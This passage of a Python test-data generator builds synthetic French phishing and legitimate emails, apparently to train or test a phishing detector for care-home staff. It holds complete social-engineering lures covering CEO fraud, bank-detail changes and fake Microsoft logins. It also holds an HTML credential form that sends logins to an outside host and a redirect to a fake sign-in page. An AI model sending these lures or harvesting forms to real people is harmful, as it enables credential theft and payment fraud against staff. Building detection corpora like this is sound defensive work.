            auth=("pass", "pass", "pass"),
        )
    )
    add(
        Mail(
            "quota_webmail_compromised",
            P,
            "mailbox full",
            "Quota lure sent from a compromised physiotherapist's domain (auth pass).",
            ("Service Messagerie", "secretariat@cabinet-kine-morel.fr"),
            SECRETARIAT_H,
            "Messages en attente de livraison",
            "Bonjour,\n\n6 messages entrants n'ont pas été délivrés car votre boîte est pleine.\n\n"
            "Libérez de l'espace en validant votre compte :\n\n"
            "[[Voir les messages en attente|https://webmail-verification.pages.dev/fam-horizon]]\n\n"
            "Merci,\nL'équipe technique",
        )
    )
    add(
        Mail(
            "quota_subdomain_trick",
            P,
            "mailbox full",
            "Quota lure, sender domain is ehpad-lestilleuls.fr.quota-mail.net, link text mismatch.",
            ("Support informatique", f"it-support@{TILLEULS}.quota-mail.net"),
            IDEC_T,
            "Action requise : quota de stockage dépassé",
            "Bonjour Julie,\n\nVotre quota de stockage est dépassé. Vos anciens messages seront "
            "supprimés dans les 24 heures.\n\nPour conserver vos messages, connectez-vous ici :\n"
            f"[[https://outlook.office.com/mail|https://{TILLEULS}.quota-mail.net/owa/]]",
            auth=("pass", "none", "none"),
            cte="base64",
        )
    )
    add(
        Mail(
            "quota_outlook_mini",
            P,
            "mailbox full",
            "Short html-only lure: Outlook display name, no auth results, link to a form service.",
            ("Microsoft Outlook", "noreply-quota@mailbox-storage-alert.com"),
            ANIM_T,
            "Stockage plein",
            "Votre stockage est plein. Vous ne recevrez plus d'e-mails.\n\n"
            "[[Obtenir 50 Go gratuits|https://forms.gle/QuotaUpdate2026]]",
            html_only=True,
            auth=None,
        )
    )
    # Fake supplier invoices
    add(
        Mail(
            "facture_double_extension",
            P,
            "fake supplier invoice",
            "Invoice lure with an attachment named facture.pdf.exe, TLD swap of a real supplier.",
            ("Hygiène Pro Distribution", "facturation@hygiene-pro.com"),
            COMPTA_T,
            "Facture F2026-0388",
            "Bonjour,\n\nVeuillez trouver ci-joint notre facture F2026-0388 d'un montant de "
            "1 248,60 € TTC.\n\nCordialement,\nService facturation",
            html=False,
            auth=("pass", "none", "none"),
            atts=[
                Att("facture_F2026-0388.pdf.exe", "application/octet-stream", pe_stub("invoice"))
            ],
        )
    )
    add(
        Mail(
            "facture_zip_js_compromised",
            P,
            "fake supplier invoice",
            "Compromised carpenter's mailbox (all auth pass), a ZIP holding a .js script.",
            ("Menuiserie Durand", "contact@menuiserie-durand57.fr"),
            COMPTA_H,
            "RE: devis remplacement portes",
            "Bonjour,\n\nSuite à notre échange, voici la facture de l'acompte.\nLe document est "
            "dans l'archive jointe.\n\nBonne journée\nP. Durand",
            html=False,
            atts=[
                Att(
                    "Facture_acompte_0226.zip",
                    "application/zip",
                    make_zip([("Facture_acompte_0226.js", script_stub("invoice"))]),
                )
            ],
        )
    )
    add(
        Mail(
            "facture_docm_lookalike",
            P,
            "fake supplier invoice",
            "Laundry invoice as a macro document, sender blanchisserie-duparc-fr.com.",
            ("Blanchisserie du Parc", "comptabilite@blanchisserie-duparc-fr.com"),
            COMPTA_T,
            "Relance facture impayée - février",
            "Madame,\n\nSauf erreur de notre part, la facture ci-jointe reste impayée. Merci de "
            "procéder au règlement sous 48 heures afin d'éviter la suspension de nos prestations."
            "\n\nPour afficher la facture, activez les macros.\n\nService comptabilité",
            auth=("pass", "pass", "pass"),
            atts=[
                Att(
                    "Facture_fevrier_2026.docm",
                    "application/vnd.ms-word.document.macroEnabled.12",
                    docm("Facture fevrier"),
                )
            ],
        )
    )
    add(
        Mail(
            "facture_iso_spoofed",
            P,
            "fake supplier invoice",
            "Spoofed real supplier (DMARC fail), a disk image attachment.",
            ("Médical Est Équipement", "service.client@medical-est.fr"),
            COMPTA_H,
            "Votre commande 45120 - facture",
            "Bonjour,\n\nVotre commande de lève-personne a été expédiée. La facture et le bon de "
            "livraison sont joints.\n\nCordialement",
            html=False,
            auth=("fail", "none", "fail"),
            mailfrom="info@srv-mail-8812.xyz",
            atts=[Att("Facture_45120.iso", "application/octet-stream", iso_stub())],
        )
    )
    add(
        Mail(
            "facture_zip_lnk",
            P,
            "fake supplier invoice",
            "Invoice ZIP holding a Windows shortcut, generic supplier name on a new domain.",
            ("Comptabilité Fournisseurs", "factures@groupe-fourniture-medicale.com"),
            COMPTA_T,
            "Facture en attente de règlement n°7791",
            "Bonjour,\n\nMerci de trouver ci-joint la facture n°7791. Le mot de passe de l'archive "
            "est 2026.\n\nCordialement",
            html=False,
            auth=("pass", "none", "none"),
            atts=[
                Att(
                    "Facture_7791.zip",
                    "application/zip",
                    make_zip(
                        [("Facture_7791.pdf.lnk", lnk_stub("C:\\Windows\\System32\\cmd.exe"))]
                    ),
                )
            ],
        )
    )
    add(
        Mail(
            "facture_html_attachment",
            P,
            "fake supplier invoice",
            "Invoice as an HTML attachment (credential page), Reply-To to a free-mail address.",
            ("Restalis Facturation", "facturation@restalis-services.fr"),
            COMPTA_T,
            "Facture Restalis - mars 2026",
            "Bonjour,\n\nVotre facture de mars est disponible. Ouvrez la pièce jointe et "
            "identifiez-vous avec votre adresse professionnelle pour la télécharger.\n\n"
            "Service facturation Restalis",
            reply_to="restalis.facturation@gmail.com",
            auth=("pass", "pass", "pass"),
            atts=[
                Att(
                    "Facture_Restalis_mars.html",
                    "text/html",
                    (
                        b"<html><body><script>document.title='OneDrive';</script>"
                        b'<form action="https://restalis-doc.online/auth.php" method="post">'
                        b'<input name="login"><input name="pwd" type="password"></form></body></html>'
                    ),
                )
            ],
        )
    )
    add(
        Mail(
            "facture_img_disk",
            P,
            "fake supplier invoice",
            "Pharmacy invoice as a .img disk image, sender on a free-mail address.",
            ("Pharmacie du Centre", "pharmacieducentre.factures@gmail.com"),
            COMPTA_T,
            "facture pharmacie février",
            "Bonjour, ci-joint la facture de février pour les résidents. Cordialement.",
            html=False,
            auth=("pass", "pass", "pass"),
            origin="mail-sor-f41.google.com",
            atts=[Att("facture_pharmacie.img", "application/octet-stream", img_stub())],
        )
    )
    add(
        Mail(
            "facture_exe_in_zip_rar",
            P,
            "fake supplier invoice",
            "Purchase-order lure with a RAR archive and a ZIP holding an executable.",
            ("Service Achats", "achats@distrimed-france.net"),
            COMPTA_H,
            "Bon de commande et facture pro forma",
            "Bonjour,\n\nComme convenu, voici le bon de commande et la facture pro forma. Merci de "
            "confirmer le paiement aujourd'hui.\n\nCordialement,\nService Achats",
            html=False,
            auth=("softfail", "none", "none"),
            atts=[
                Att(
                    "Proforma_2026.zip",
                    "application/zip",
                    make_zip([("Proforma_2026.exe", pe_stub("proforma"))]),
                ),
                Att("Bon_de_commande.rar", "application/x-rar-compressed", rar_stub()),
            ],
        )
    )
    # CEO fraud (no links)
    add(
        Mail(
            "fovi_direction_gmail",
            P,
            "CEO fraud",
            "Director's name on a Gmail address, urgent confidential transfer, no link.",
            ("Catherine Marchal", "catherine.marchal.direction@gmail.com"),
            COMPTA_T,
            "Demande confidentielle",
            "Sophie,\n\nJ'ai besoin que tu procèdes aujourd'hui à un virement urgent pour un "
            "fournisseur dans le cadre d'une acquisition en cours. Le dossier est strictement "
            "confidentiel, n'en parle à personne pour le moment.\n\nJe t'envoie le RIB dès que tu "
            "me confirmes ta disponibilité. Je suis en réunion, réponds uniquement par mail.\n\n"
            "Catherine Marchal\nDirectrice",
            html=False,
            auth=("pass", "pass", "pass"),
            origin="mail-sor-f69.google.com",
        )
    )
    add(
        Mail(
            "fovi_lookalike_domain",
            P,
            "CEO fraud",
            "Director on ehpad-lestilleul.fr (one letter missing), transfer request, auth pass.",
            ("Catherine Marchal", "c.marchal@ehpad-lestilleul.fr"),
            COMPTA_T,
            "Virement à traiter avant 16h",
            "Bonjour Sophie,\n\nMerci de préparer un virement de 18 450 € au profit du cabinet "
            "d'avocats qui nous accompagne sur le dossier de la nouvelle unité. Les coordonnées "
            "bancaires sont ci-dessous :\n\nIBAN : FR76 1027 8060 3100 0205 7840 175\nBIC : CMCIFR2A"
            "\n\nC'est urgent et confidentiel, je compte sur toi.\n\nCatherine",
            html=False,
        )
    )
    add(
        Mail(
            "fovi_dispo_subtle",
            P,
            "CEO fraud",
            "Subtle first contact: 'es-tu disponible ?' from the director's name on outlook.com.",
            ("Éric Vasseur", "eric.vasseur.fam@outlook.com"),
            COMPTA_H,
            "Es-tu disponible ?",
            "Bonjour Marc,\n\nEs-tu à ton bureau ? J'ai une opération à te confier, il faudrait "
            "la traiter rapidement et en toute discrétion. Réponds-moi ici, je ne suis pas "
            "joignable au téléphone.\n\nÉric Vasseur\nEnvoyé de mon iPhone",
            html=False,
            origin="EUR02-DB5-obe.outbound.protection.outlook.com",
        )
    )
    add(
        Mail(
            "fovi_reply_to",
            P,
            "CEO fraud",
            "Director's display name with the facility's own address spoofed (DMARC fail), Reply-To elsewhere.",
            ("Catherine Marchal", f"c.marchal@{TILLEULS}"),
            COMPTA_T,
            "Paiement fournisseur - urgent",
            "Sophie,\n\nUn paiement de 9 800 € doit partir ce matin pour le fournisseur de "
            "matériel médical, sinon la livraison est annulée. Je suis en déplacement, fais le "
            "nécessaire et confirme-moi par retour de mail.\n\nMerci\nC. Marchal",
            html=False,
            auth=("fail", "none", "fail"),
            mailfrom="user@smtp-relay-fr.biz",
            reply_to="c.marchal.direction@proton.me",
        )
    )
    add(
        Mail(
            "fovi_cartes_cadeaux",
            P,
            "CEO fraud",
            "Gift-card request in the director's name from a free-mail address.",
            ("Direction FAM L'Horizon", "direction.famhorizon@gmail.com"),
            SECRETARIAT_H,
            "Petit service",
            "Bonjour,\n\nJe prépare une surprise pour l'équipe de nuit. Peux-tu acheter 5 cartes "
            "cadeaux de 100 € et m'envoyer les codes au dos par mail ? Je te rembourse demain.\n\n"
            "Merci, c'est urgent.\nÉric",
            html=False,
            origin="mail-sor-f73.google.com",
        )
    )
    # Supplier RIB change
    add(
        Mail(
            "rib_changement_compromis",
            P,
            "supplier RIB change",
            "Real supplier domain (auth pass, compromised mailbox), new bank details, Reply-To on Gmail.",
            ("Restalis - Comptabilité", "compta@restalis.fr"),
            COMPTA_T,
            "Changement de coordonnées bancaires",
            "Madame, Monsieur,\n\nSuite à un changement de banque, nous vous informons que nos "
            "coordonnées bancaires ont été modifiées. Merci d'utiliser désormais le RIB ci-joint "
            "pour vos prochains règlements, y compris les factures en cours.\n\nMerci de nous "
            "confirmer la prise en compte par retour de mail.\n\nCordialement,\nService comptabilité",
            reply_to="restalis.comptabilite@gmail.com",
            atts=[Att("RIB_Restalis_2026.pdf", "application/pdf", pdf("RIB Restalis"))],
        )
    )
    add(
        Mail(
            "rib_lookalike_supplier",
            P,
            "supplier RIB change",
            "RIB change from restaIis.fr (capital I), a PDF attached, auth pass on the lookalike.",
            ("Restalis", "comptabilite@restaIis.fr"),
            COMPTA_H,
            "Nouveau RIB - à compter de ce jour",
            "Bonjour,\n\nNous vous prions de bien vouloir noter nos nouvelles coordonnées "
            "bancaires, applicables dès à présent. L'ancien compte est clôturé : tout virement "
            "sur celui-ci sera rejeté.\n\nVous trouverez notre nouveau RIB en pièce jointe.\n\n"
            "Bien cordialement,\nAnne Colin\nComptabilité clients",
            html=False,
            atts=[Att("Nouveau_RIB.pdf", "application/pdf", pdf("Nouveau RIB"))],
        )
    )
    add(
        Mail(
            "rib_blanchisserie_freemail",
            P,
            "supplier RIB change",
            "Laundry supplier asking for the pending invoices to be paid to a new IBAN, from Gmail.",
            ("Blanchisserie du Parc", "blanchisserieduparc@gmail.com"),
            COMPTA_T,
            "Mise à jour RIB",
            "Bonjour,\n\nSuite à un audit, notre compte bancaire habituel est temporairement "
            "bloqué. Merci d'effectuer le paiement des factures en attente sur notre compte "
            "secondaire :\nIBAN FR76 3000 4028 3700 0107 7385 914\n\nMerci de votre compréhension."
            "\nCordialement",
            html=False,
            origin="mail-sor-f54.google.com",
        )
    )
    add(
        Mail(
            "rib_subtle_reply",
            P,
            "supplier RIB change",
            "Subtle: exact supplier domain, SPF neutral, only a Reply-To elsewhere and a bank-detail change.",
            ("Anne Colin", "a.colin@hygiene-pro.fr"),
            COMPTA_H,
            "RE: Facture F2026-0301",
            "Bonjour Monsieur Weber,\n\nMerci pour votre message. Pour le règlement de la facture "
            "F2026-0301, merci d'utiliser nos nouvelles coordonnées bancaires, que je vous "
            "transmets dès réception de votre accord.\n\nBien à vous,\nAnne Colin",
            html=False,
            auth=("neutral", "none", "none"),
            reply_to="a.colin@hygiene-pro-fr.com",
        )
    )
    # Parcels
    add(
        Mail(
            "colis_frais_colissimo",
            P,
            "parcel",
            "Colissimo fee lure from colissimo-suivi.info, payment of 1,99 €.",
            ("Colissimo", "suivi@colissimo-suivi.info"),
            ACCUEIL_T,
            "Votre colis est en attente de livraison",
            "Bonjour,\n\nVotre colis n° 6A23491780523 n'a pas pu être livré : des frais de "
            "réexpédition de 1,99 € restent à régler.\n\n[[Programmer une nouvelle livraison|"
            "https://colissimo-suivi.info/reprogrammer?colis=6A23491780523]]\n\nSans paiement sous "
            "48 h, le colis sera retourné à l'expéditeur.",
            auth=("pass", "none", "none"),
            brand="Colissimo",
        )
    )
    add(
        Mail(
            "colis_chronopost_short",
            P,
            "parcel",
            "Chronopost display name on an unrelated domain, URL shortener, no auth results.",
            ("Chronopost", "info@livraison-express24.com"),
            ANIM_T,
            "Livraison impossible - adresse incomplète",
            "Votre colis ne peut être livré : adresse incomplète. Confirmez votre adresse : "
            "[[https://tinyurl.com/chrono-livr|https://tinyurl.com/chrono-livr]]",
            auth=None,
            html=False,
        )
    )
    add(
        Mail(
            "colis_dhl_douane",
            P,
            "parcel",
            "DHL customs fee lure, link text shows dhl.com, target elsewhere.",
            ("DHL Express", "noreply@dhl-express-douane.com"),
            SECRETARIAT_H,
            "DHL : frais de douane à régler",
            "Cher client,\n\nVotre envoi 4829310574 est retenu en douane. Des frais de 3,47 € "
            "doivent être payés avant la livraison.\n\n"
            "[[https://www.dhl.com/fr-fr/home/suivi.html|https://dhl-paiement-douane.top/pay]]"
            "\n\nDHL Express France",
            auth=("pass", "pass", "pass"),
            brand="DHL",
        )
    )
    add(
        Mail(
            "colis_laposte_subtle",
            P,
            "parcel",
            "Subtle: La Poste display name, new domain, only a 'reprogrammer' link (no pressure words).",
            ("La Poste", "service@suivi-laposte-colis.fr"),
            IDEC_T,
            "Avis de passage",
            "Bonjour,\n\nNotre facteur est passé aujourd'hui en votre absence.\n\n"
            "[[Choisir un nouveau créneau|https://suivi-laposte-colis.fr/avis/4AB19]]\n\nLa Poste",
            auth=("pass", "pass", "pass"),
            brand="La Poste",
        )
    )
    # Microsoft 365
    add(
        Mail(
            "m365_mot_de_passe_expire",
            P,
            "Microsoft 365 login",
            "Microsoft 365 password expiry, link text shows login.microsoftonline.com.",
            ("Microsoft 365", "no-reply@microsoft365-securite.com"),
            DIRECTION_T,
            "Votre mot de passe expire aujourd'hui",
            "Le mot de passe de c.marchal@ehpad-lestilleuls.fr expire aujourd'hui.\n\n"
            "Conservez votre mot de passe actuel :\n"
            "[[https://login.microsoftonline.com|https://login-microsoftonline.com.secure-auth.cc/common]]"
            "\n\nL'équipe des comptes Microsoft",
            auth=("pass", "none", "none"),
            brand="Microsoft",
        )
    )
    add(
        Mail(
            "m365_sharepoint_compromis",
            P,
            "Microsoft 365 login",
            "SharePoint share notice from a compromised law firm's domain (auth pass), link to web.app.",
            ("Microsoft SharePoint", "noreply@cabinet-lefevre-avocats.fr"),
            COMPTA_H,
            "Maître Lefèvre a partagé « Convention_2026.pdf » avec vous",
            "Maître Lefèvre a partagé un fichier avec vous.\n\nConvention_2026.pdf\n\n"
            "[[Ouvrir|https://docs-partage-1d8e2.web.app/sharepoint/Convention_2026]]\n\n"
            "Ce lien fonctionne uniquement pour les destinataires directs de ce message.",
            brand="SharePoint",
        )
    )
    add(
        Mail(
            "m365_connexion_inhabituelle",
            P,
            "Microsoft 365 login",
            "Unusual sign-in alert, spoofed microsoft.com with DMARC fail, asks for the MFA code.",
            ("Microsoft account team", "account-security-noreply@accountprotection.microsoft.com"),
            CADRE_H,
            "Activité de connexion inhabituelle",
            "Nous avons détecté une connexion inhabituelle à votre compte depuis Lagos (Nigeria)."
            "\n\nSi ce n'était pas vous, sécurisez votre compte et saisissez le code de "
            "vérification reçu par SMS :\n\n[[Sécuriser mon compte|http://91.215.85.14/ms/verify]]",
            auth=("fail", "fail", "fail"),
            mailfrom="postmaster@mx.hostingmail-cluster.ru",
            brand="Microsoft",
        )
    )
    add(
        Mail(
            "m365_docusign_html",
            P,
            "Microsoft 365 login",
            "Document-to-sign lure with an HTM attachment, sender on onmicrosoft.com tenant.",
            ("DocuSign via Microsoft", "admin@facturation2026.onmicrosoft.com"),
            DIRECTION_H,
            "Document à signer : avenant contrat",
            "Un document vous a été envoyé pour signature électronique.\n\nOuvrez la pièce jointe "
            "et connectez-vous avec votre compte Microsoft 365 pour signer.",
            atts=[
                Att(
                    "Avenant_contrat_signature.htm",
                    "text/html",
                    (
                        b'<html><head><meta http-equiv="refresh" content="0;url=https://signature-docs'
                        b'.online/o365/"></head><body>Chargement...</body></html>'
                    ),
                )
            ],
        )
    )
    add(
        Mail(
            "m365_teams_subtle",
            P,
            "Microsoft 365 login",
            "Subtle: missed Teams message, Microsoft display name on an unrelated domain, one link.",
            ("Microsoft Teams", "notifications@teams-messages.net"),
            IDEC_T,
            "Vous avez manqué des messages de votre équipe",
            "Des membres de votre équipe essaient de vous joindre.\n\n"
            "[[Ouvrir Microsoft Teams|https://teams-messages.net/l/chat/0/0]]",
            brand="Microsoft Teams",
        )
    )
    # Fake provider
    add(
        Mail(
            "prestataire_maj_antivirus",
            P,
            "fake provider",
            "The IT provider's name on axion-sl.fr (l for i), antivirus 'update' ZIP holding an exe.",
            ("Axion Santé Informatique", "support@axion-sl.fr"),
            ACCUEIL_T,
            "Mise à jour urgente de l'antivirus",
            "Bonjour,\n\nUne faille critique touche l'antivirus installé sur vos postes. Merci "
            "d'installer dès aujourd'hui le correctif joint sur chaque poste (double-cliquer sur "
            "le fichier).\n\nL'équipe support Axion Santé Informatique",
            html=False,
            atts=[
                Att(
                    "Correctif_antivirus.zip",
                    "application/zip",
                    make_zip([("Correctif_antivirus_2026.exe", pe_stub("patch"))]),
                )
            ],
        )
    )
    add(
        Mail(
            "prestataire_anydesk",
            P,
            "fake provider",
            "Provider lookalike axion-si-support.fr asking to install a remote-control tool and give the code.",
            ("Thomas Girard - Axion SI", "t.girard@axion-si-support.fr"),
            SECRETARIAT_H,
            "Intervention à distance ce jour",
            "Bonjour,\n\nPour l'intervention prévue sur votre poste, merci de télécharger l'outil "
            "de prise en main à distance :\n[[https://axion-si.fr/assistance|https://axion-si-support"
            ".fr/dl/AnyDesk.exe]]\n\nPuis communiquez-moi par retour de mail le code à 9 chiffres "
            "affiché.\n\nThomas Girard\nTechnicien",
            auth=("pass", "pass", "pass"),
        )
    )
    add(
        Mail(
            "prestataire_identifiants",
            P,
            "fake provider",
            "Provider name on axion-si.com (TLD swap), 'migration' asking for login and password.",
            ("Axion SI - Service client", "migration@axion-si.com"),
            CADRE_H,
            "Migration de votre messagerie - identifiants à confirmer",
            "Bonjour,\n\nDans le cadre de la migration de votre messagerie prévue ce week-end, "
            "merci de nous confirmer votre identifiant et votre mot de passe actuel en réponse à "
            "ce message, afin que vos données soient transférées.\n\nSans réponse avant vendredi, "
            "vos messages ne pourront pas être récupérés.\n\nService client Axion SI",
            html=False,
            auth=("pass", "none", "none"),
        )
    )
    add(
        Mail(
            "prestataire_punycode",
            P,
            "fake provider",
            "Provider homoglyph (Cyrillic i, punycode) asking to re-validate the VPN account.",
            ("Axion Santé Informatique", f"noreply@{'axіon-si'.encode('idna').decode()}.fr"),
            DIRECTION_T,
            "Renouvellement de votre accès VPN",
            "Madame,\n\nVotre certificat d'accès VPN expire demain. Renouvelez-le pour continuer "
            "à travailler à distance :\n\n[[Renouveler mon accès|"
            f"https://{'axіon-si'.encode('idna').decode()}.fr/vpn/renew]]\n\nAxion Santé Informatique",
            auth=("pass", "none", "none"),
            brand="Axion Santé Informatique",
        )
    )
    # Other public bodies and banks
    add(
        Mail(
            "impots_remboursement",
            P,
            "fake tax office",
            "Tax refund lure on impots-gouv-remboursement.fr, asks for card details.",
            ("impots.gouv.fr", "remboursement@impots-gouv-remboursement.fr"),
            COMPTA_H,
            "Avis de remboursement - Taxe sur les salaires",
            "Madame, Monsieur,\n\nAprès vérification, un trop-perçu de 742,19 € a été constaté sur "
            "la taxe sur les salaires de votre établissement.\n\n[[Demander le remboursement|"
            "https://impots-gouv-remboursement.fr/dgfip/remboursement]]\n\nMunissez-vous de la "
            "carte bancaire de l'établissement.\n\nDirection générale des Finances publiques",
            auth=("pass", "none", "none"),
            brand="impots.gouv.fr",
        )
    )
    add(
        Mail(
            "banque_code_sms",
            P,
            "fake bank",
            "Bank security alert from credit-agricole-securite.com asking for the SMS code.",
            ("Crédit Agricole", "securite@credit-agricole-securite.com"),
            COMPTA_T,
            "Opération suspecte sur votre compte professionnel",
            "Madame,\n\nUne opération de 2 490,00 € vers un bénéficiaire inconnu est en attente "
            "de validation sur le compte de votre établissement.\n\nSi vous n'êtes pas à "
            "l'origine de cette opération, annulez-la immédiatement et saisissez le code "
            "reçu par SMS :\n\n[[Annuler l'opération|https://credit-agricole-securite.com/annulation]]",
            auth=("pass", "pass", "pass"),
            brand="Crédit Agricole",
        )
    )
    add(
        Mail(
            "urssaf_majoration",
            P,
            "fake URSSAF",
            "URSSAF penalty lure, ZIP holding a .js, Reply-To on another domain.",
            ("Urssaf", "recouvrement@urssaf-gouv.fr"),
            COMPTA_H,
            "Mise en demeure - majorations de retard",
            "Madame, Monsieur,\n\nSauf erreur, vos cotisations du 4e trimestre restent impayées. "
            "Une majoration de 10 % sera appliquée sous 72 heures.\n\nLe détail figure dans "
            "l'archive jointe.\n\nUrssaf Lorraine",
            html=False,
            auth=("pass", "none", "none"),
            reply_to="urssaf.recouvrement@mail.ru",
            atts=[
                Att(
                    "Mise_en_demeure.zip",
                    "application/zip",
                    make_zip([("Mise_en_demeure_detail.pdf.js", script_stub("urssaf"))]),
                )
            ],
        )
    )
    add(
        Mail(
            "pro_sante_connect_ecps",
            P,
            "fake e-CPS",
            "e-CPS re-activation lure, sender esante-gouv.fr, asks for the PIN.",
            ("Agence du Numérique en Santé", "ne-pas-repondre@esante-gouv.fr"),
            IDEC_T,
            "Réactivation de votre e-CPS obligatoire",
            "Bonjour,\n\nVotre e-CPS sera désactivée le 9 mars 2026. Pour continuer à accéder à "
            "Pro Santé Connect et au DMP, réactivez-la en saisissant le code PIN de votre carte "
            "CPS :\n\n[[Réactiver mon e-CPS|https://esante-gouv.fr/ecps/reactivation]]\n\n"
            "Agence du Numérique en Santé",
            auth=("pass", "pass", "pass"),
            brand="ANS — e-CPS",
        )
    )
    # Phishing forwarded by a colleague as an attachment (what Vigie really receives)
    inner_ameli = Mail(
        "inner_ameli",
        P,
        "",
        "",
        ("Ameli", "info@ameli-assures-remboursement.com"),
        ACCUEIL_T,
        "Un remboursement vous attend",
        "Bonjour,\n\nUn remboursement de 96,20 € est disponible. Confirmez vos coordonnées "
        "bancaires sous 24 h :\n\n[[Recevoir mon remboursement|"
        "https://ameli-assures-remboursement.com/remb]]\n\nL'Assurance Maladie",
        auth=("pass", "none", "none"),
        brand="ameli",
    )
    add(
        Mail(
            "transfert_ameli_piece_jointe",
            P,
            "forwarded phishing",
            "A colleague forwards (as attachment) a fake Ameli refund mail: the phishing is inside.",
            ("Accueil EHPAD Les Tilleuls", f"accueil@{TILLEULS}"),
            IDEC_T,
            "TR: Un remboursement vous attend",
            "Julie, j'ai reçu ça ce matin, c'est normal ? je n'ai pas cliqué.\n\nAccueil",
            html=False,
            atts=[rfc822(inner_ameli, 3, "Un remboursement vous attend.eml")],
            mua="Microsoft Outlook 16.0",
        )
    )
    inner_invoice = Mail(
        "inner_invoice",
        P,
        "",
        "",
        ("Elevation Services", "facturation@elevation-services-fr.com"),
        COMPTA_H,
        "Facture maintenance ascenseur",
        "Bonjour,\n\nCi-joint la facture de maintenance annuelle de l'ascenseur.\n\nCordialement",
        html=False,
        auth=("pass", "none", "none"),
        atts=[
            Att(
                "Facture_maintenance.zip",
                "application/zip",
                make_zip([("Facture_maintenance.exe", pe_stub("lift"))]),
            )
        ],
    )
    add(
        Mail(
            "transfert_facture_piece_jointe",
            P,
            "forwarded phishing",
            "A colleague forwards (as attachment) a fake lift-maintenance invoice with a ZIP holding an exe.",
            ("Isabelle Henry", f"i.henry@{HORIZON}"),
            COMPTA_H,
            "Fwd: Facture maintenance ascenseur",
            "Marc,\n\nje te transfère, je ne connais pas ce fournisseur, tu peux vérifier ?\n\n"
            "Isabelle",
            html=False,
            atts=[rfc822(inner_invoice, 9, "Facture maintenance ascenseur.eml")],
            mua="Mozilla Thunderbird 128.7.0",
        )
    )
    return mails


# --- legitimate ---------------------------------------------------------------------------
ARS_FOOTER = (
    "Vous recevez cette lettre car vous êtes abonné(e) aux informations de l'ARS Grand Est. "
    '<a href="https://xr4k2.r.sp1-brevo.net/mk/un/sh/unsub">Se désinscrire</a>'
)


def newsletter_body(name: str, intro: str, items: list[tuple[str, str]], site: str) -> str:
    body = intro + "\n\n"
    for i, (title, summary) in enumerate(items):
        body += f"{title}\n{summary} [[Lire la suite|{track(name, i)}]]\n\n"
    body += f"[[Consulter le site de l'ARS|{track(name, 99)}]] — {site}"
    return body


def legit() -> list[Mail]:
    L = "legit"
    mails: list[Mail] = []
    add = mails.append
    list_headers = [
        (
            "List-Unsubscribe",
            "<https://xr4k2.r.sp1-brevo.net/mk/un/sh/unsub>, <mailto:unsubscribe@ars.sante.fr>",
        ),
        ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
        ("Precedence", "bulk"),
    ]
    ars = ("ARS Grand Est", "ars-grandest-communication@ars.sante.fr")

    # Supplier invoices with a PDF
    add(
        Mail(
            "facture_hygiene_pro",
            L,
            "supplier invoice",
            "Monthly invoice from the consumables supplier, PDF attached, auth pass.",
            ("Hygiène Pro Distribution", "facturation@hygiene-pro.fr"),
            COMPTA_T,
            "Facture F2026-0301 - EHPAD Les Tilleuls",
            "Bonjour,\n\nVeuillez trouver ci-joint la facture F2026-0301 correspondant à la "
            "livraison du 24/02/2026 (gants nitrile, protections, solutions hydroalcooliques).\n\n"
            "Montant : 2 316,40 € TTC - échéance : 31/03/2026.\nRèglement par virement sur le "
            "compte habituel, merci de rappeler le numéro de facture.\n\nCordialement,\n"
            "Service facturation\nHygiène Pro Distribution - 12 rue de l'Industrie, 57200 Sarreguemines",
            html=False,
            atts=[Att("F2026-0301.pdf", "application/pdf", pdf("Facture F2026-0301"))],
        )
    )
    add(
        Mail(
            "facture_restalis",
            L,
            "supplier invoice",
            "Catering invoice, HTML + text, PDF attached.",
            ("Restalis", "factures@restalis.fr"),
            COMPTA_H,
            "Votre facture Restalis n° 26-00412",
            "Bonjour,\n\nVotre facture n° 26-00412 du mois de février 2026 est disponible en pièce "
            "jointe.\n\nMontant TTC : 14 872,15 €\nDate d'échéance : 30/03/2026\nMode de règlement : "
            "prélèvement SEPA\n\nPour toute question, contactez votre interlocutrice habituelle au "
            "03 87 95 12 40.\n\nL'équipe Restalis",
            brand="Restalis - Restauration collective",
            atts=[Att("Facture_26-00412.pdf", "application/pdf", pdf("Facture 26-00412"))],
        )
    )
    add(
        Mail(
            "facture_blanchisserie_relance",
            L,
            "supplier invoice",
            "Tricky: a real reminder for an overdue invoice (paiement, retard, virement), PDF attached.",
            ("Blanchisserie du Parc", "comptabilite@blanchisserie-duparc.fr"),
            COMPTA_T,
            "Relance : facture 2026-118 échue",
            "Madame Lambert,\n\nSauf erreur de notre part, la facture 2026-118 du 15/01/2026 "
            "(1 104,00 € TTC) arrivée à échéance le 15/02 n'a pas encore été réglée.\n\nPouvez-vous "
            "vérifier et procéder au paiement par virement sur nos coordonnées bancaires "
            "habituelles (inchangées) ? Si le règlement a été fait entre-temps, merci de ne pas "
            "tenir compte de ce message.\n\nVous trouverez la facture en copie.\n\nBien cordialement,"
            "\nMartine Schmitt\nComptabilité - Blanchisserie du Parc\n03 87 02 44 10",
            html=False,
            atts=[Att("Facture_2026-118.pdf", "application/pdf", pdf("Facture 2026-118"))],
        )
    )
    add(
        Mail(
            "facture_medical_est",
            L,
            "supplier invoice",
            "Equipment supplier invoice with delivery note, two PDFs, CRLF line endings.",
            ("Médical Est Équipement", "service.client@medical-est.fr"),
            COMPTA_H,
            "Commande 45120 - facture et bon de livraison",
            "Bonjour,\n\nVotre commande 45120 (2 lève-personnes, 4 matelas à air) a été livrée le "
            "26/02. Vous trouverez ci-joint la facture et le bon de livraison signé.\n\n"
            "Cordialement,\nService client Médical Est Équipement",
            crlf=True,
            mua="Microsoft Outlook 16.0",
            atts=[
                Att("Facture_45120.pdf", "application/pdf", pdf("Facture 45120")),
                Att("BL_45120.pdf", "application/pdf", pdf("Bon de livraison 45120")),
            ],
        )
    )
    add(
        Mail(
            "facture_pharmacie",
            L,
            "supplier invoice",
            "Pharmacy's monthly statement for residents, no auth results (small local server).",
            ("Pharmacie du Centre", "contact@pharmacie-ducentre-sarreguemines.fr"),
            COMPTA_T,
            "Relevé mensuel février",
            "Bonjour,\n\nCi-joint le relevé du mois de février pour les résidents de l'EHPAD "
            "(préparation des piluliers et fournitures).\n\nBonne journée,\nPharmacie du Centre",
            html=False,
            auth=None,
            atts=[Att("Releve_fevrier_2026.pdf", "application/pdf", pdf("Releve fevrier 2026"))],
        )
    )
    add(
        Mail(
            "facture_energie",
            L,
            "supplier invoice",
            "Energy bill notice without attachment, link to the customer area.",
            ("ÉS Énergies Strasbourg", "ne-pas-repondre@es-energies.fr"),
            COMPTA_H,
            "Votre facture d'électricité est disponible",
